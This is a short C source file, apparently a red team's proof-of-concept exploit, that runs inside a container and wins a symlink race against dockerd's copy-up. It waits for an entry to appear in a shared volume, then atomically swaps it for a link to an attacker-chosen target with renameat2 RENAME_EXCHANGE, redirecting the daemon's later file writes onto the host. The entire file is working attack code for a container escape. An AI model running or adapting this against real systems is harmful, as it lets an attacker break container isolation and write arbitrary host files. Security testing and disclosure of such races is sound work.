/* In DIR (a volume the container shares), wait for an entry `a` to
 * appear (dockerd's copy-up creating it), then put a link to TARGET in
 * its place atomically (renameat2 RENAME_EXCHANGE with a fresh link `s`),
 * so every later file dockerd copies below `a` lands in TARGET. Red team
 * 6's attacks/src/swap.c, for found-79; runs inside the attacker's
 * container, statically linked. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

int
main (int argc, char **argv)
{
  if (argc != 3 || chdir (argv[1]) != 0)
    return 2;
  while (access ("a", F_OK) != 0)
    ;
  if (symlink (argv[2], "s") != 0)
    return 3;
  return syscall (SYS_renameat2, AT_FDCWD, "a", AT_FDCWD, "s", 2 /* RENAME_EXCHANGE */) == 0 ? 0 : 4;
}
